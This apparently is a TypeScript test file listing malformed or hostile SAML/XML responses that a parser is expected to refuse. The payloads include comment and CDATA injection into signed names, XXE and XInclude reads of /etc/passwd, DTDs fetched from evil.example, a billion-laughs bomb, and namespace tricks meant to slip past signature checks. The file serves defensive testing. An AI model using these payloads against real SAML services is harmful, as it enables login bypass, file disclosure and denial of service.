import { assertion, confirmation, nameId, response, sign, signedResponse, swap } from './document.ts'
import { refused, type Refused } from './refused.ts'

const good = signedResponse()
const doctype = (inside: string) => `<!DOCTYPE Response [${inside}]>${good}`
const lol = Array.from({ length: 10 }, (_, depth) =>
  depth === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${depth} "${`&lol${depth - 1};`.repeat(10)}">`,
).join('')
const inName = (content: string) => swap(good, 'ann-7f3c', content)
const signedName = (content: string) =>
  sign(
    response(
      assertion({ subject: `<saml:Subject>${swap(nameId, 'ann-7f3c', content)}${confirmation}</saml:Subject>` }),
    ),
    '_a1',
  )

/** SML-05. What divides a text. */
const divided: Refused[] = [
  ['form', 'a comment in the name, after signing: the signature does not see it', inName('ann-<!-- -->7f3c')],
  ['form', 'a comment in the name, signed: admin, or what follows it', signedName('admin<!-- -->.evil')],
  ['form', 'a comment at the beginning of the name', inName('<!---->ann-7f3c')],
  ['form', 'a section in the name', signedName('admin<![CDATA[.evil]]>')],
  ['form', 'an instruction in the name, after signing', inName('ann-<?x?>7f3c')],
  ['form', 'a comment in the address', swap(good, 'ann@acme.example', 'ann@acme.example<!-- -->.evil.example')],
  ['form', 'a comment after the document', `${good}<!-- -->`],
  ['form', 'an instruction before the document', `<?xml-stylesheet href="https://evil.example/"?>${good}`],
]

/** SML-09. What makes a reader work, or fetch. */
const expensive: Refused[] = [
  ['form', 'a document type', doctype('')],
  ['form', 'an external entity', swap(doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), 'ann-7f3c', '&x;')],
  ['form', 'an external document type', `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">${good}`],
  ['form', 'a billion laughs', swap(doctype(lol), 'ann-7f3c', '&lol9;')],
  ['form', 'entities of parameters', doctype('<!ENTITY % p SYSTEM "https://evil.example/p"> %p;')],
  ['form', 'default values of attributes', doctype('<!ATTLIST Response ID CDATA "_evil">')],
  ['form', 'an entity that nobody declares', inName('&ann;')],
  ['form', 'the entity of a method of objects', inName('&valueOf;')],
  ['form', 'a character that XML does not have', inName('ann&#0;-7f3c')],
  ['form', 'half a character', inName('ann&#xD800;-7f3c')],
  [
    'form',
    'an inclusion',
    swap(
      good,
      '<samlp:Status>',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><samlp:Status>',
    ),
  ],
  ['form', 'ten thousand elements in one another', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`],
  ['form', 'twenty thousand elements beside one another', `<a>${'<a/>'.repeat(20_000)}</a>`],
  [
    'form',
    'ten thousand attributes',
    `<a ${Array.from({ length: 10_000 }, (_, number) => `a${number}=""`).join(' ')}/>`,
  ],
  [
    'form',
    'a long namespace that the canonical form repeats four thousand times',
    swap(
      good,
      '</saml:Assertion>',
      `<a xmlns:n="u:${'n'.repeat(60_000)}">${'<n:b/>'.repeat(4000)}</a></saml:Assertion>`,
    ),
  ],
  ['form', 'an attribute that does not end', `<a b="${'&amp;'.repeat(20_000)}`],
  ['form', 'a tag of blanks that does not end', `<a${' '.repeat(100_000)}`],
  ['form', 'a hundred thousand openings', '<'.repeat(100_000)],
  ['too_large', 'longer than an answer may be', `${good}${' '.repeat(200_000)}`],
  ['form', 'nothing', ' '],
  ['form', 'another encoding', Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${good}`, 'utf16le')],
  ['form', 'an encoding that is said to be another', `<?xml version="1.0" encoding="UTF-7"?>${good}`],
  ['form', 'bytes that are no UTF-8', Buffer.concat([Buffer.from(good), Buffer.from([0xc3, 0x28])])],
  ['form', 'compressed', Buffer.from('eJxLy0ksAAAA//8', 'base64')],
]

/** SML-21. Names that two readers resolve in two ways ("The Fragile Lock", 2025). */
const names: Refused[] = [
  [
    'signature_missing',
    'a signature of another namespace',
    swap(good, '"http://www.w3.org/2000/09/xmldsig#">', '"http://www.w3.org/2000/09/xmldsig">'),
  ],
  [
    'form',
    'an assertion of another namespace',
    swap(
      good,
      'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"',
      'xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"',
    ),
  ],
  ['form', 'a response of no namespace', good.replaceAll('samlp:', '')],
  ['form', 'a prefix that stands for nothing', swap(good, '<samlp:Status>', '<samlp:Status evil:x="">')],
  [
    'form',
    'a namespace that is a relative address: its canonical form is void',
    swap(good, '<samlp:Status>', '<samlp:Status xmlns:x="relative">'),
  ],
  [
    'form',
    'a namespace that is a relative address, in the signature',
    swap(good, '<ds:SignedInfo>', '<ds:SignedInfo xmlns:x="1">'),
  ],
  ['form', 'a prefix is taken back', swap(good, '<samlp:Status>', '<samlp:Status xmlns:saml="">')],
  ['form', 'xml is given another namespace', swap(good, '<samlp:Status>', '<samlp:Status xmlns:xml="urn:evil">')],
  [
    'form',
    'another prefix is given that of xml',
    swap(good, '<samlp:Status>', '<samlp:Status xmlns:x="http://www.w3.org/XML/1998/namespace">'),
  ],
  ['form', 'xmlns is given a namespace', swap(good, '<samlp:Status>', '<samlp:Status xmlns:xmlns="urn:evil">')],
  [
    'form',
    'a prefix is given two namespaces',
    swap(good, '<samlp:Status>', '<samlp:Status xmlns:x="urn:a" xmlns:x="urn:b">'),
  ],
  ['form', 'an attribute twice', swap(good, 'ID="_a1"', 'ID="_evil" ID="_a1"')],
  [
    'form',
    'an attribute twice, by two prefixes',
    swap(good, '<samlp:Status>', '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:ID="1" b:ID="2">'),
  ],
  [
    'signature',
    'an attribute of the same name in another namespace',
    swap(good, 'ID="_a1"', 'xmlns:x="urn:x" x:ID="_evil" ID="_a1"'),
  ],
  ['signature_reference', 'an id in another namespace alone', swap(good, ' ID="_a1"', ' xmlns:x="urn:x" x:ID="_a1"')],
  [
    'signature',
    'the prefix of the assertion stands for another namespace further in',
    swap(good, '<saml:NameID ', '<saml:NameID xmlns:saml="urn:evil" '),
  ],
  ['form', 'a name with two colons', swap(good, '<samlp:Status>', '<samlp:Status a:b:c="">')],
  ['form', 'a tag that closes another', swap(good, '</samlp:Status>', '</saml:Status>')],
  ['form', 'text where elements belong', swap(good, '<samlp:Status>', 'evil<samlp:Status>')],
  ['form', 'two documents', good + good],
  ['form', 'an end of a section that does not begin', inName('ann]]>7f3c')],
]

export const xml = [...refused('SML-05', divided), ...refused('SML-09', expensive), ...refused('SML-21', names)]
